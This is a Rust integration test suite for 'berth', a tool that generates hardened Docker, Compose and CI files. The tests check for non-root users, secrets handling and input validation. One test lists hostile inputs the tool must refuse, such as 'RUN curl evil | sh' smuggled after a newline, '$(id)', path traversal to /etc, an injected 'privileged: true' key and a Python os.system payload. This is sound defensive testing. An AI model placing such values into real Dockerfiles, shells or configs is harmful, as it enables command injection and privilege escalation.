use crate::{yaml, yaml_keys, Berth};

const PRESETS: &[&str] = &["api-service", "distroless-batch", "mariadb-etl", "minimal", "postgres-etl"];

/// The final stage of a Dockerfile: from its last FROM on.
fn final_stage(dockerfile: &str) -> &str {
    let at = dockerfile.rfind("\nFROM ").expect("a FROM line");
    &dockerfile[at..]
}

#[test]
fn every_preset_writes_a_hardened_project() {
    for preset in PRESETS {
        let run = Berth::new().args(&["new", "proj", "--preset", preset, "-y"]).run().expect_code(0);
        let dockerfile = run.read("proj/Dockerfile");
        let runtime = final_stage(&dockerfile);
        assert!(dockerfile.matches("\nFROM ").count() >= 2, "{preset}: multi-stage");
        assert!(
            runtime.contains("\nUSER 10001:10001") || runtime.contains("\nUSER 65532:65532"),
            "{preset}: numeric non-root user"
        );
        assert!(
            !runtime.contains("gcc") && !runtime.contains("-dev"),
            "{preset}: no compiler or headers in the runtime stage"
        );
        assert!(runtime.contains("\nHEALTHCHECK ") && runtime.contains("CMD [\""), "{preset}: exec-form healthcheck");
        assert!(runtime.contains("\nCMD [") && runtime.contains("\nENTRYPOINT ["), "{preset}: exec form");
        assert!(!dockerfile.contains("# syntax="), "{preset}: no frontend pull");
        assert!(!dockerfile.contains("ARG ") && !dockerfile.contains("PASSWORD"), "{preset}: no build-time secrets");

        let compose = yaml(&run.read("proj/docker-compose.prod.yml"));
        assert!(compose.get("version").is_none(), "{preset}: no top-level version");
        for (name, service) in compose["services"].as_object().unwrap() {
            assert_eq!(service["read_only"], yaml("true"), "{preset}/{name}");
            assert_eq!(service["cap_drop"], yaml("[ALL]"), "{preset}/{name}");
            assert!(service.get("cap_add").is_none(), "{preset}/{name}: no capability added back");
            assert_eq!(service["security_opt"], yaml("[no-new-privileges=true]"), "{preset}/{name}");
            assert!(service["user"].as_str().is_some_and(|u| !u.starts_with("0:") && u != "root"), "{preset}/{name}");
            assert!(
                service["mem_limit"].is_string() && service["cpus"].is_number() && service["pids_limit"].is_number(),
                "{preset}/{name}"
            );
            assert_eq!(service["logging"]["options"]["max-size"], yaml("'10m'"), "{preset}/{name}");
            assert!(service.get("privileged").is_none() && service.get("network_mode").is_none());
        }
        let _ = run.read("proj/.dockerignore");
        assert!(run.read("proj/secrets/.gitignore").contains('*'));
        assert!(run.read("proj/berth.yml").contains("name: \"proj\""));
        assert!(run.exists("proj/SECURITY.md") && run.exists("proj/.env.prod.example"));
    }
}

#[test]
fn database_presets_isolate_the_database() {
    for preset in ["postgres-etl", "mariadb-etl", "api-service"] {
        let run = Berth::new().args(&["new", "p", "--preset", preset, "-y"]).run().expect_code(0);
        let compose = yaml(&run.read("p/docker-compose.prod.yml"));
        let db = &compose["services"]["db"];
        assert!(db.get("ports").is_none(), "{preset}: db publishes nothing");
        assert_eq!(db["networks"], yaml("[backend]"));
        assert_eq!(compose["networks"]["backend"]["internal"], yaml("true"));
        assert_eq!(db["user"], yaml("'999:999'"), "{preset}: db runs as its own user");
        assert_eq!(compose["services"]["app"]["depends_on"]["db"]["condition"], yaml("service_healthy"));
        assert!(compose["secrets"]["db_password"]["file"].as_str() == Some("./secrets/db_password"));
        let password = run.read("p/secrets/db_password");
        assert_eq!(password.trim().len(), 32, "{preset}: a generated password");
        assert!(!run.stdout().contains(password.trim()) && !run.stderr().contains(password.trim()), "never printed");
        let env = format!("{:?}", db["environment"]);
        assert!(env.contains("_PASSWORD_FILE"), "{preset}: *_FILE variables");
    }
    let pg = Berth::new().args(&["new", "p", "--preset", "postgres-etl", "-y"]).run().expect_code(0);
    let compose = pg.read("p/docker-compose.prod.yml");
    assert!(compose.contains("pg_isready -h 127.0.0.1"), "TCP healthcheck");
    assert!(compose.contains("db-data:/var/lib/postgresql\n"), "PG 18 volume layout");
    assert!(final_stage(&pg.read("p/Dockerfile")).contains("libpq5"), "runtime library derived from libpq-dev");
    assert!(pg.read("p/requirements.txt").contains("psycopg2=="));
}

#[test]
fn api_is_published_on_loopback_only() {
    let run =
        Berth::new().args(&["new", "svc", "--preset", "api-service", "-y", "--port", "8080"]).run().expect_code(0);
    let compose = yaml(&run.read("svc/docker-compose.prod.yml"));
    assert_eq!(compose["services"]["app"]["ports"], yaml("['127.0.0.1:8080:8080']"));
    assert_eq!(compose["services"]["app"]["networks"], yaml("[frontend, backend]"));
    let dockerfile = run.read("svc/Dockerfile");
    assert!(dockerfile.contains("http://127.0.0.1:8080/healthz"), "healthcheck asks the endpoint");
    assert!(dockerfile.contains("EXPOSE 8080"));
}

#[test]
fn distroless_uses_nonroot_tag_matching_builder_and_venv_link() {
    let run = Berth::new().args(&["new", "d", "--preset", "distroless-batch", "-y"]).run().expect_code(0);
    let dockerfile = run.read("d/Dockerfile");
    assert!(dockerfile.contains("FROM python:3.13-slim-trixie AS builder"));
    assert!(dockerfile.contains("FROM gcr.io/distroless/python3-debian13:nonroot AS runtime"));
    assert!(dockerfile.contains("ln -sf /usr/local/bin/python /usr/bin/python"));
    assert!(dockerfile.contains("/usr/bin/python -m venv"));
    assert!(!final_stage(&dockerfile).contains("\nRUN "), "no shell to run anything in distroless");
    assert!(final_stage(&dockerfile).contains("USER 65532:65532"));
}

#[test]
fn packaging_and_ci_variants() {
    let uv = Berth::new().args(&["new", "u", "-y", "--packaging", "uv", "--ci", "gitlab"]).run().expect_code(0);
    assert!(uv.read("u/Dockerfile").contains("uv sync --locked --no-dev --no-install-project"));
    assert!(uv.read("u/pyproject.toml").contains("[project]"));
    assert!(uv.exists("u/.gitlab-ci.yml") && uv.exists("u/renovate.json"));
    assert!(!uv.exists("u/.github"));
    assert!(uv.stdout().contains("uv lock"), "next steps say to lock");

    let poetry = Berth::new().args(&["new", "p", "-y", "--packaging", "poetry", "--ci", "none"]).run().expect_code(0);
    assert!(poetry.read("p/Dockerfile").contains("poetry install --only main --no-root --no-directory"));
    assert!(!poetry.exists("p/.github/workflows") && !poetry.exists("p/.gitlab-ci.yml"));

    let alpine = Berth::new()
        .args(&[
            "new",
            "a",
            "-y",
            "--base",
            "alpine",
            "--database",
            "postgres",
            "--build-packages",
            "gcc,musl-dev,postgresql-dev",
        ])
        .run()
        .expect_code(0);
    let dockerfile = alpine.read("a/Dockerfile");
    assert!(dockerfile.contains("FROM python:3.13-alpine"));
    assert!(final_stage(&dockerfile).contains("apk add --no-cache libpq"));
}

#[test]
fn github_workflow_is_pinned_and_least_privilege() {
    let run = Berth::new().args(&["new", "g", "--preset", "postgres-etl", "-y"]).run().expect_code(0);
    let text = run.read("g/.github/workflows/container.yml");
    let workflow = yaml(&text);
    assert_eq!(workflow["permissions"], yaml("{}"));
    for line in text.lines().filter(|l| l.trim_start().starts_with("- uses:") || l.trim_start().starts_with("uses:")) {
        let reference = line.split('@').nth(1).expect("pinned");
        let sha = reference.split_whitespace().next().unwrap().trim_end_matches('"');
        assert_eq!(sha.len(), 40, "{line}");
        assert!(reference.contains("# v"), "version comment: {line}");
    }
    assert!(!text.contains("trivy-action@master"));
    assert!(text.contains("persist-credentials: false"));
    assert!(text.contains("cosign sign --yes"));
    assert!(text.contains("severity: \"CRITICAL,HIGH\""));
    assert!(run.read("g/.github/dependabot.yml").contains("package-ecosystem: github-actions"));
}

#[test]
fn invalid_answers_are_all_reported_in_one_run() {
    let run = Berth::new()
        .file("answers.yml", "python: '3.9'\nbase: ubuntu\nport: 80\ncolour: blue\n")
        .args(&["new", "x", "--answers", "answers.yml", "-y", "--uid", "0"])
        .run()
        .expect_code(2);
    let err = run.stderr();
    for needle in [
        "python = \"3.9\"",
        "base = \"ubuntu\"",
        "port = \"80\"",
        "unknown key `colour`",
        "uid = \"0\"",
        "3.11, 3.12, 3.13, 3.14",
    ] {
        assert!(err.contains(needle), "missing {needle:?} in:\n{err}");
    }
    assert!(!run.exists("x"), "nothing written");
}

#[test]
fn impossible_combinations_explain_what_works() {
    let run = Berth::new().args(&["new", "x", "-y", "--base", "distroless", "--python", "3.11"]).run().expect_code(2);
    assert!(run.stderr().contains("3.13") && run.stderr().contains("--base slim"), "{}", run.stderr());
    let run = Berth::new().args(&["new", "x", "-y", "--ci", "gitlab", "--updates", "dependabot"]).run().expect_code(2);
    assert!(run.stderr().contains("renovate"), "{}", run.stderr());
    let run = Berth::new()
        .file("x/requirements.txt", "pandas==2.2.3\n")
        .args(&["new", "x", "-y", "--base", "alpine"])
        .run()
        .expect_code(0);
    assert!(run.stderr().contains("warning:") && run.stderr().contains("pandas"), "{}", run.stderr());
}

#[test]
fn an_existing_file_berth_did_not_write_is_left_alone_and_shown() {
    let run = Berth::new().file("p/Dockerfile", "FROM scratch\n").args(&["new", "p", "-y"]).run().expect_code(1);
    assert!(run.stdout().contains("no base   Dockerfile"), "{}", run.stdout());
    assert!(
        run.stdout().contains("-FROM scratch") && run.stdout().contains("+FROM python:3.13-slim-trixie AS builder")
    );
    let err = run.stderr();
    assert!(
        err.contains("left as they are") && err.contains("apply it by hand") && err.contains("remove the file"),
        "{err}"
    );
    assert_eq!(run.read("p/Dockerfile"), "FROM scratch\n");
    assert!(run.exists("p/docker-compose.prod.yml"), "the other files are written");
    assert!(
        !run.read("p/berth.lock").contains("path: \"Dockerfile\""),
        "berth did not write it, so it is not recorded"
    );

    let forced = run.then(&["new", "p", "-y", "--force"]).expect_code(0);
    assert!(forced.read("p/Dockerfile").contains("AS runtime"));
    assert!(forced.stdout().contains("overwrite Dockerfile (your edits are replaced (--force)"), "{}", forced.stdout());
    let again = forced.then(&["new", "p", "-y"]).expect_code(0);
    assert!(again.stdout().contains("unchanged Dockerfile"), "{}", again.stdout());
}

#[test]
fn starter_code_and_secrets_are_never_replaced() {
    let run = Berth::new()
        .file("p/src/pipeline.py", "print('mine')\n")
        .args(&["new", "p", "--preset", "postgres-etl", "-y"])
        .run()
        .expect_code(0);
    assert_eq!(run.read("p/src/pipeline.py"), "print('mine')\n");
    let password = run.read("p/secrets/db_password");
    let again =
        run.then(&["new", "p", "--preset", "postgres-etl", "-y", "--force", "--app-memory", "3g"]).expect_code(0);
    assert_eq!(again.read("p/secrets/db_password"), password);
    assert_eq!(again.read("p/src/pipeline.py"), "print('mine')\n");
    assert!(again.read("p/docker-compose.prod.yml").contains("mem_limit: 3g"));
}

#[test]
fn dry_run_prints_plan_and_diff_and_writes_nothing() {
    let run =
        Berth::new().file("p/Dockerfile", "FROM scratch\n").args(&["new", "p", "-y", "--dry-run"]).run().expect_code(1);
    let out = run.stdout();
    assert!(out.contains("no base   Dockerfile") && out.contains("create    docker-compose.prod.yml"), "{out}");
    assert!(out.contains("-FROM scratch") && out.contains("+FROM python:3.13-slim-trixie AS builder"), "{out}");
    assert_eq!(run.files("p"), vec!["Dockerfile"]);
}

#[test]
fn rerun_reads_berth_yml_and_regenerates_identically() {
    let run = Berth::new().args(&["new", "p", "--preset", "api-service", "-y", "--port", "9000"]).run().expect_code(0);
    let again = run.then(&["new", "p", "-y"]).expect_code(0);
    assert!(again.stderr().contains("using answers from"));
    assert!(!again.stdout().contains("overwrite"), "{}", again.stdout());
    assert!(again.read("p/docker-compose.prod.yml").contains("127.0.0.1:9000:9000"));
}

#[test]
fn without_a_terminal_or_yes_it_exits_2_naming_the_flags() {
    let run = Berth::new().args(&["new", "p", "--preset", "minimal"]).run().expect_code(2);
    assert!(run.stderr().contains("--non-interactive") && run.stderr().contains("--answers"), "{}", run.stderr());
    assert!(!run.exists("p"));
}

#[test]
fn help_shows_examples() {
    let run = Berth::new().args(&["new", "--help"]).run().expect_code(0);
    assert!(run.stdout().contains("Examples:") && run.stdout().contains("--preset postgres-etl -y"));
}

/// Hostile values must never add an instruction, a key or a path outside DIR.
#[test]
fn injection_attempts_are_refused_everywhere() {
    let hostile: &[(&str, &str)] = &[
        ("name", "x\nRUN curl evil | sh"),
        ("name", "a: b"),
        ("name", "$(id)"),
        ("name", "\"quoted\""),
        ("name", "../../etc"),
        ("entrypoint", "../../etc/cron.py"),
        ("entrypoint", "/etc/passwd.py"),
        ("entrypoint", "src/x.py\nUSER root"),
        ("build_packages", "gcc\nRUN curl evil"),
        ("build_packages", "$(id)"),
        ("runtime_packages", "libpq5 && curl evil"),
        ("health_path", "/\"quoted\""),
        ("health_path", "/x', timeout=1); import os; os.system('id"),
        ("image", "a: b"),
        ("image", "ghcr.io/x\n    privileged: true"),
        ("private_index", "https://evil.example/$(id)"),
        ("app_memory", "1g\n    privileged: true"),
        ("app_cpus", "1 # x"),
        ("python", "3.13\nRUN id"),
    ];
    for (key, value) in hostile {
        // As a flag (through --set) ...
        let run = Berth::new().args(&["new", "p", "-y", "--set", &format!("{key}={value}")]).run();
        assert_eq!(run.code(), 2, "--set {key}={value:?} was accepted:\n{}", run.stderr());
        assert!(run.stderr().contains(key), "error names the field {key}: {}", run.stderr());
        assert!(!run.exists("p"), "nothing written for {key}={value:?}");
        // ... and from an answers file, where YAML quoting must not help either.
        let answers = format!("{key}: {}\n", serde_json::to_string(value).unwrap());
        let run = Berth::new().file("a.yml", &answers).args(&["new", "p", "--answers", "a.yml", "-y"]).run();
        assert_eq!(run.code(), 2, "answers file {key}: {value:?} was accepted");
        assert!(!run.exists("p"));
    }
    assert!(!std::path::Path::new("/etc/cron.py").exists());
}

/// Valid but unusual values stay exactly one value in every generated file.
#[test]
fn valid_values_stay_in_their_place() {
    let run = Berth::new()
        .args(&[
            "new",
            "p",
            "-y",
            "--name",
            "a-b_c",
            "--workload",
            "api",
            "--health-path",
            "/v1/health.check~x",
            "--entrypoint",
            "svc.main",
            "--image",
            "registry.local:5000/team/a-b",
            "--database",
            "postgres",
        ])
        .run()
        .expect_code(0);
    let compose = yaml(&run.read("p/docker-compose.prod.yml"));
    let text = run.read("p/docker-compose.prod.yml");
    assert_eq!(yaml_keys(&text, &[]), vec!["name", "services", "networks", "volumes", "secrets"]);
    assert_eq!(compose["name"], yaml("a-b_c"));
    assert_eq!(yaml_keys(&text, &["services"]), vec!["app", "db"]);
    assert!(run.exists("p/svc/main.py"), "module entrypoint starter");
    assert!(run.read("p/Dockerfile").contains("CMD [\"-m\",\"svc.main\"]"));
    let workflow = yaml(&run.read("p/.github/workflows/container.yml"));
    assert_eq!(workflow["env"]["IMAGE"], yaml("registry.local:5000/team/a-b"));
}

#[test]
fn a_file_in_place_of_the_directory_is_a_clear_error() {
    let run = Berth::new().file("afile", "x").args(&["new", "afile", "-y"]).run().expect_code(2);
    assert!(run.stderr().contains("afile exists and is not a directory"), "{}", run.stderr());
    assert_eq!(run.read("afile"), "x");
}

/// The starter code must at least be valid Python for every database, driver and workload.
#[test]
fn starter_code_is_valid_python() {
    let mut combos = Vec::new();
    for database in ["postgres", "mariadb", "none"] {
        for workload in ["batch", "api"] {
            for build in [None, Some("gcc,libpq-dev,default-libmysqlclient-dev")] {
                combos.push((database, workload, build));
            }
        }
    }
    for (database, workload, build) in combos {
        let mut args = vec!["new", "p", "-y", "--database", database, "--workload", workload];
        if let Some(packages) = build {
            args.extend(["--build-packages", packages]);
        }
        let run = Berth::new().args(&args).run().expect_code(0);
        let entry = if workload == "api" { "p/src/app.py" } else { "p/src/pipeline.py" };
        let status = std::process::Command::new("python3")
            .args(["-m", "py_compile", &run.dir.path().join(entry).to_string_lossy()])
            .status()
            .expect("python3 runs");
        assert!(status.success(), "{database}/{workload}/{build:?}: {entry} does not compile:\n{}", run.read(entry));
    }
}

#[test]
fn ci_files_quote_every_interpolated_value() {
    for image in ["no", "null", "1.0", "0x10", "true", "ghcr.io/acme/yes"] {
        for (ci, file) in [("github", "p/.github/workflows/container.yml"), ("gitlab", "p/.gitlab-ci.yml")] {
            let run = Berth::new().args(&["new", "p", "-y", "--ci", ci, "--image", image]).run().expect_code(0);
            let text = run.read(file);
            let root = berth::yaml::tree::parse(&text).unwrap();
            let section = if ci == "github" { "env" } else { "variables" };
            let value = root.get(section).and_then(|s| s.get("IMAGE")).unwrap();
            assert_eq!(
                value.value,
                berth::yaml::tree::Value::Scalar { text: image.into(), plain: false },
                "{ci}: {text}"
            );
        }
    }
}

#[test]
fn image_hosts_outside_the_reference_grammar_are_refused() {
    for image in ["-u.x/etl", "../etl", "a..b/etl", "ghcr.io:/etl", "x.io/a___b"] {
        let run = Berth::new().args(&["new", "p", "-y", &format!("--image={image}")]).run().expect_code(2);
        assert!(run.stderr().contains("image = "), "{image}: {}", run.stderr());
        assert!(!run.exists("p"), "{image}: nothing written");
    }
}

/// Runs `chattr FLAG PATH`; false where the filesystem or the user cannot (not root, tmpfs).
fn chattr(flag: &str, path: &std::path::Path) -> bool {
    std::process::Command::new("chattr")
        .arg(flag)
        .arg(path)
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

#[cfg(unix)]
fn mode(run: &crate::Run, path: &str) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(run.dir.path().join(path)).unwrap().permissions().mode() & 0o7777
}

/// Every file, with its content, under `dir` (to show a failed run changed nothing).
fn contents(run: &crate::Run, dir: &str) -> Vec<(String, Vec<u8>)> {
    run.files(dir).into_iter().map(|f| (f.clone(), std::fs::read(run.dir.path().join(dir).join(&f)).unwrap())).collect()
}

#[test]
fn a_path_through_a_managed_file_writes_nothing() {
    let run = Berth::new().args(&["new", "ep1", "-y", "--entrypoint", "docker-compose.prod.yml/x.py"]).run();
    assert_eq!(run.code(), 2, "{}", run.stderr());
    assert!(run.stderr().contains("docker-compose.prod.yml"), "{}", run.stderr());
    assert!(!run.exists("ep1"), "nothing written: {:?}", run.files("ep1"));
}

/// The reported case: with --force, the run failed on the immutable file after replacing others.
/// Where inode flags are not available (not root, tmpfs), a read-only file stands in.
#[test]
fn an_immutable_file_stops_the_run_before_any_change() {
    let run = Berth::new().args(&["new", "p", "-y"]).run().expect_code(0);
    let security = run.dir.path().join("p/SECURITY.md");
    std::fs::write(&security, "mine\n").unwrap();
    let immutable = chattr("+i", &security);
    if !immutable {
        let mut permissions = std::fs::metadata(&security).unwrap().permissions();
        permissions.set_readonly(true);
        std::fs::set_permissions(&security, permissions).unwrap();
    }
    let before = contents(&run, "p");
    let again = run.then(&["new", "p", "-y", "--force", "--python", "3.12"]);
    chattr("-i", &again.dir.path().join("p/SECURITY.md"));
    assert_eq!(again.code(), 2, "{}", again.stderr());
    let (said, fix) = if immutable { ("it is immutable", "chattr -i") } else { ("it is read-only", "chmod u+w") };
    assert!(again.stderr().contains(&format!("p/SECURITY.md: {said}")) && again.stderr().contains(fix));
    assert!(again.stderr().contains("nothing was written"), "{}", again.stderr());
    assert_eq!(contents(&again, "p"), before, "nothing changed");
}

/// Without a database there is no password, but the next steps put index credentials there.
#[cfg(unix)]
#[test]
fn the_secrets_directory_is_private_and_the_netrc_step_is_safe() {
    let run = Berth::new()
        .args(&["new", "p", "-y", "--private-index", "https://pypi.example.com/simple"])
        .run()
        .expect_code(0);
    assert_eq!(mode(&run, "p/secrets"), 0o700);
    let out = run.stdout();
    assert!(out.contains("touch secrets/netrc && chmod 600 secrets/netrc"), "{out}");
    assert!(!out.contains("> secrets/netrc"), "no step truncates the credentials file or leaves it 0644: {out}");
    // A secrets/ directory made by hand, or by an older berth, is tightened, and the plan says so.
    let loose = Berth::new().file("q/secrets/.keep", "").run();
    std::fs::set_permissions(loose.dir.path().join("q/secrets"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    let dry = loose.then(&["new", "q", "-y", "--dry-run"]).expect_code(0);
    assert!(dry.stdout().contains("restrict  secrets/ (mode 755 -> 700"), "{}", dry.stdout());
    assert_eq!(mode(&dry, "q/secrets"), 0o755, "a dry run changes nothing");
    let done = dry.then(&["new", "q", "-y"]).expect_code(0);
    assert_eq!(mode(&done, "q/secrets"), 0o700);
}

/// A failed run leaves the mode of secrets/ as it was.
#[cfg(unix)]
#[test]
fn a_failed_run_does_not_chmod_secrets() {
    use std::os::unix::fs::PermissionsExt;
    let run = Berth::new().file("p/secrets/.keep", "").file("p/Dockerfile", "FROM scratch\n").run();
    std::fs::set_permissions(run.dir.path().join("p/secrets"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(run.dir.path().join("p/Dockerfile"), std::fs::Permissions::from_mode(0o444)).unwrap();
    let failed = run.then(&["new", "p", "-y", "--force", "--preset", "postgres-etl"]);
    assert_eq!(failed.code(), 2, "{}", failed.stderr());
    assert!(failed.stderr().contains("read-only"), "{}", failed.stderr());
    assert_eq!(mode(&failed, "p/secrets"), 0o755);
    assert_eq!(failed.files("p"), vec!["Dockerfile", "secrets/.keep"]);
}

/// `secrets -> src` stays inside DIR, but would put the password in src/ and so in the image.
#[cfg(unix)]
#[test]
fn a_linked_secrets_directory_is_refused() {
    let run = Berth::new().file("p/src/.keep", "").run();
    std::os::unix::fs::symlink("src", run.dir.path().join("p/secrets")).unwrap();
    let run = run.then(&["new", "p", "-y", "--preset", "postgres-etl"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    assert!(run.stderr().contains("p/secrets: it is a symbolic link (to src)"), "{}", run.stderr());
    assert!(run.stderr().contains("replace the link with a directory"), "{}", run.stderr());
    assert_eq!(run.files("p/src"), vec![".keep"], "no password in src/");
}

/// Whatever the directory is called, the printed `cd` takes a shell there, and the terminal
/// sees no control character.
#[test]
fn next_steps_quote_the_directory_for_a_shell() {
    for dir in ["a b", "$(id)", "it's", "tab\there", "esc\u{1b}[31m", "new\nline", "é-ü"] {
        let run = Berth::new().args(&["new", dir, "-y", "--name", "p"]).run().expect_code(0);
        let out = run.stdout();
        assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{dir:?}: {out:?}");
        let cd = out.lines().find_map(|l| l.strip_prefix("  cd ")).unwrap_or_else(|| panic!("{out}"));
        let shell = std::process::Command::new("bash")
            .arg("-c")
            .arg(format!("cd {cd} && pwd -P"))
            .current_dir(run.dir.path())
            .output()
            .unwrap();
        let landed = String::from_utf8(shell.stdout).unwrap();
        let expected = run.dir.path().join(dir).canonicalize().unwrap();
        assert_eq!(landed.trim_end_matches('\n'), expected.to_str().unwrap(), "{dir:?}: cd {cd}");
    }
}

/// A killed run leaves `.NAME.berth-PID.tmp` (one holds a password); the next run removes them.
#[test]
fn temporary_files_of_a_killed_run_are_removed_by_the_next() {
    let run = Berth::new()
        .file("p/.Dockerfile.berth-4242.tmp", "FROM half\n")
        .file("p/secrets/.db_password.berth-4242.tmp", "hunter2hunter2\n")
        .file("p/.notes.tmp", "mine\n")
        .args(&["new", "p", "-y", "--preset", "postgres-etl"])
        .run()
        .expect_code(0);
    assert!(run.stdout().contains("remove    secrets/.db_password.berth-4242.tmp"), "{}", run.stdout());
    assert!(!run.exists("p/.Dockerfile.berth-4242.tmp") && !run.exists("p/secrets/.db_password.berth-4242.tmp"));
    assert!(run.exists("p/.notes.tmp"), "only berth's own pattern");
    assert!(!run.files("p").iter().any(|f| f.contains(".berth-")), "{:?}", run.files("p"));
}

/// Secrets keep their documented mode whatever the umask: with 0400 under `umask 077`, the
/// database container (another uid) could not read its password.
#[cfg(unix)]
#[test]
fn secret_files_are_readable_by_the_containers_under_any_umask() {
    let dir = tempfile::tempdir().unwrap();
    let berth = assert_cmd::cargo::cargo_bin("berth");
    let status = std::process::Command::new("sh")
        .args(["-c", "umask 077 && exec \"$0\" new p -y --preset postgres-etl"])
        .arg(&berth)
        .current_dir(dir.path())
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    use std::os::unix::fs::PermissionsExt;
    let mode_of = |p: &str| std::fs::metadata(dir.path().join(p)).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode_of("p/secrets/db_password"), 0o444);
    assert_eq!(mode_of("p/secrets"), 0o700);
    assert_eq!(mode_of("p/Dockerfile"), 0o600, "other files follow the umask");
}

/// Places berth cannot or must not write: exit 2, a message naming the path, nothing written.
#[cfg(unix)]
#[test]
fn unwritable_targets_are_clear_errors_and_leave_nothing() {
    let base = Berth::new().file("real/.keep", "").file("afile", "x").run();
    let root = base.dir.path();
    std::os::unix::fs::symlink("real", root.join("link")).unwrap();
    std::os::unix::fs::symlink("nowhere", root.join("dangling")).unwrap();
    let cases: &[(&str, &str)] = &[
        ("link", "link: it is a symbolic link (to real)"),
        ("dangling/p", "dangling is a symbolic link to nowhere, which does not exist"),
        ("afile", "afile exists and is not a directory"),
        ("afile/p", "afile exists and is not a directory"),
    ];
    let mut run = base;
    for (dir, message) in cases {
        run = run.then(&["new", dir, "-y", "--name", "p"]);
        assert_eq!(run.code(), 2, "{dir}: {}", run.stderr());
        assert!(run.stderr().contains(message), "{dir}: {}", run.stderr());
    }
    assert_eq!(run.files("real"), vec![".keep"]);
    assert_eq!(run.read("afile"), "x");
    // Read-only as the user sees it (root ignores modes, so an immutable directory stands in).
    let ro = run.dir.path().join("ro");
    std::fs::create_dir(&ro).unwrap();
    if chattr("+i", &ro) {
        let failed = run.then(&["new", "ro", "-y", "--name", "p"]);
        chattr("-i", &failed.dir.path().join("ro"));
        assert_eq!(failed.code(), 2, "{}", failed.stderr());
        assert!(failed.stderr().contains("ro: it is immutable"), "{}", failed.stderr());
        assert!(failed.files("ro").is_empty());
    } else {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o555)).unwrap();
        let failed = run.then(&["new", "ro", "-y", "--name", "p"]);
        assert_eq!(failed.code(), 2, "{}", failed.stderr());
        assert!(failed.stderr().contains("berth cannot create files in it"), "{}", failed.stderr());
    }
}
